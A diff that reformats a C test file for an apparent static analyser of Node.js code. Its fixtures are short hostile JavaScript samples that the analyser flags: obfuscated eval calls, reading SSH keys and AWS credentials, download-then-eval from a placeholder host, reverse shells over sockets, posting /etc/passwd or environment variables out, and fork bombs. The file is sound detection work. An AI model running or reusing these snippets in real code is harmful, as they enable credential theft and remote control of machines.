@@ -33,12 +33,19 @@ TEST(modules_of_node_are_followed_however_they_are_loaded)
 
 TEST(names_of_node_in_pieces_are_put_together)
 {
-    static const char *const ways[] = {
-        "globalThis['ev' + 'al']('x')", "(0, eval)('x')", "const e = eval; e('x')", "eval.call(null, 'x')", "Reflect.apply(eval, null, ['x'])",
-        "globalThis['lave'.split('').reverse().join('')]('x')", "window[`ev${'al'}`]('x')", "global[atob('ZXZhbA==')]('x')",
-        "globalThis[String.fromCharCode(101, 118, 97, 108)]('x')", "globalThis['\\x65\\u0076al']('x')", "const k = ['x', 'eval']; globalThis[k[1]]('x')",
-        "Reflect.get(globalThis, 'eval')('x')", "globalThis[Buffer.from('6576616c', 'hex').toString()]('x')",
-    };
+    static const char *const ways[] = { "globalThis['ev' + 'al']('x')",
+                                        "(0, eval)('x')",
+                                        "const e = eval; e('x')",
+                                        "eval.call(null, 'x')",
+                                        "Reflect.apply(eval, null, ['x'])",
+                                        "globalThis['lave'.split('').reverse().join('')]('x')",
+                                        "window[`ev${'al'}`]('x')",
+                                        "global[atob('ZXZhbA==')]('x')",
+                                        "globalThis[String.fromCharCode(101, 118, 97, 108)]('x')",
+                                        "globalThis['\\x65\\u0076al']('x')",
+                                        "const k = ['x', 'eval']; globalThis[k[1]]('x')",
+                                        "Reflect.get(globalThis, 'eval')('x')",
+                                        "globalThis[Buffer.from('6576616c', 'hex').toString()]('x')" };
     for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
         node(ways[i]);
         CHECK(facts_have("call eval(x)"));
@@ -47,8 +54,12 @@ TEST(names_of_node_in_pieces_are_put_together)
 
 TEST(functions_of_node_are_made_through_constructors)
 {
-    static const char *const ways[] = { "[].constructor.constructor('return 1')", "(() => {}).constructor('return 1')", "Function('return 1')", "new Function('return 1')",
-                                        "(function () {}).constructor.call(null, 'return 1')", "Object.getPrototypeOf(async function () {}).constructor('return 1')" };
+    static const char *const ways[] = { "[].constructor.constructor('return 1')",
+                                        "(() => {}).constructor('return 1')",
+                                        "Function('return 1')",
+                                        "new Function('return 1')",
+                                        "(function () {}).constructor.call(null, 'return 1')",
+                                        "Object.getPrototypeOf(async function () {}).constructor('return 1')" };
     for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
         node(ways[i]);
         CHECK(facts_have("call Function(return 1)"));
@@ -71,7 +82,8 @@ TEST(local_names_of_node_are_no_globals)
 
 TEST(paths_of_node_are_folded)
 {
-    node("const fs = require('fs'), p = require('path'), os = require('os'); fs.readFileSync(p.join(os.homedir(), '.ssh', 'id_rsa'));");
+    node("const fs = require('fs'), p = require('path'), os = require('os'); fs.readFileSync(p.join(os.homedir(), "
+         "'.ssh', 'id_rsa'));");
     CHECK(facts_have("call fs.readFileSync(~/.ssh/id_rsa)"));
     node("require('fs/promises').readFile(`${process.env.HOME}/.aws/credentials`)");
     CHECK(facts_have("call fs.readFile(~/.aws/credentials)"));
@@ -88,12 +100,20 @@ TEST(flows_of_node_from_source_to_sink_are_seen)
         const char *text, *flow;
     } cases[] = {
         { "eval(atob('eA=='))", "flow decode-then-exec(x)" },
-        { "const b = Buffer.from('eA==', 'base64'); const t = b.toString(); new Function(t)()", "flow decode-then-exec(x)" },
+        { "const b = Buffer.from('eA==', 'base64'); const t = b.toString(); new Function(t)()",
+          "flow decode-then-exec(x)" },
         { "fetch('http://a').then(r => r.text()).then(t => eval(t))", "flow download-then-exec(?)" },
-        { "require('https').get('https://a', r => { let d = ''; r.on('data', c => { d += c; }); r.on('end', () => eval(d)); })", "flow download-then-exec(?)" },
-        { "const s = new (require('net').Socket)(), sh = require('child_process').spawn('sh'); s.connect(1, 'a'); s.pipe(sh.stdin); sh.stdout.pipe(s);", "flow reverse-shell()" },
-        { "const n = require('net'); n.createServer(c => { const p = require('child_process').spawn('/bin/sh'); c.pipe(p.stdin); })", "flow reverse-shell()" },
-        { "const d = require('fs').readFileSync('/etc/passwd'); fetch('http://a', {body: d})", "flow secret-then-send(http://a)" },
+        { "require('https').get('https://a', r => { let d = ''; r.on('data', c => { d += c; }); r.on('end', () => "
+          "eval(d)); })",
+          "flow download-then-exec(?)" },
+        { "const s = new (require('net').Socket)(), sh = require('child_process').spawn('sh'); s.connect(1, 'a'); "
+          "s.pipe(sh.stdin); sh.stdout.pipe(s);",
+          "flow reverse-shell()" },
+        { "const n = require('net'); n.createServer(c => { const p = require('child_process').spawn('/bin/sh'); "
+          "c.pipe(p.stdin); })",
+          "flow reverse-shell()" },
+        { "const d = require('fs').readFileSync('/etc/passwd'); fetch('http://a', {body: d})",
+          "flow secret-then-send(http://a)" },
         { "fetch('http://a', {method: 'POST', body: JSON.stringify(process.env)})", "flow secret-then-send(http://a)" },
         { "console.log(process['env'])", "flow env-dump()" },
         { "while (true) require('child_process').fork(__filename)", "flow fork-loop()" },
@@ -101,7 +121,9 @@ TEST(flows_of_node_from_source_to_sink_are_seen)
         { "while (1) {}", "flow endless-loop()" },
         { "globalThis[name]('x')", "flow computed-call(?)" },
         { "setTimeout('x()', 1)", "flow timer-code(x())" },
-        { "const fs = require('fs'); function w(d) { fs.readdirSync(d).forEach(n => w(d + '/' + n)); } w(require('os').homedir())", "flow walk-outside()" },
+        { "const fs = require('fs'); function w(d) { fs.readdirSync(d).forEach(n => w(d + '/' + n)); } "
+          "w(require('os').homedir())",
+          "flow walk-outside()" },
     };
     for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
         node(cases[i].text);
@@ -111,11 +133,14 @@ TEST(flows_of_node_from_source_to_sink_are_seen)
 
 TEST(ordinary_node_makes_no_flows)
 {
-    static const char *const texts[] = {
-        "while (true) { const x = q.shift(); if (!x) break; out.push(x); }", "const t = atob('aGk='); console.log(t)", "setTimeout(() => {}, 10)",
-        "fetch('http://a').then(r => r.json()).then(d => console.log(d))", "const {PORT} = process.env; console.log(PORT)", "handlers[name](1)",
-        "require('fs').rmSync(require('fs').mkdtempSync('x'), {recursive: true})", "for (const f of files) require('fs').unlinkSync('out/' + f)",
-    };
+    static const char *const texts[] = { "while (true) { const x = q.shift(); if (!x) break; out.push(x); }",
+                                         "const t = atob('aGk='); console.log(t)",
+                                         "setTimeout(() => {}, 10)",
+                                         "fetch('http://a').then(r => r.json()).then(d => console.log(d))",
+                                         "const {PORT} = process.env; console.log(PORT)",
+                                         "handlers[name](1)",
+                                         "require('fs').rmSync(require('fs').mkdtempSync('x'), {recursive: true})",
+                                         "for (const f of files) require('fs').unlinkSync('out/' + f)" };
     for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
         node(texts[i]);
         if (facts_mention("flow "))
@@ -153,8 +178,10 @@ TEST(changed_node_programs_are_survived)
     facts_survive_changes(LANG_NODE,
                           "const {exec: e, ...rest} = require('child_' + 'process'); import a, {b as c} from 'x';\n"
                           "for (const f of ['a', `/etc/${x}`]) { e(f.split('').reverse().join('')); }\n"
-                          "globalThis[Buffer.from('6576', 'hex').toString() + \"\\x61\\u006c\"](atob('eA==').slice(1, -1).replace(/a/g, 'b'));\n"
-                          "while (true) { new (require('net').Socket)().on('data', d => e.call(null, d)); } [].constructor.constructor('return this')();\n",
+                          "globalThis[Buffer.from('6576', 'hex').toString() + \"\\x61\\u006c\"](atob('eA==').slice(1, "
+                          "-1).replace(/a/g, 'b'));\n"
+                          "while (true) { new (require('net').Socket)().on('data', d => e.call(null, d)); } "
+                          "[].constructor.constructor('return this')();\n",
                           4000);
 }
 
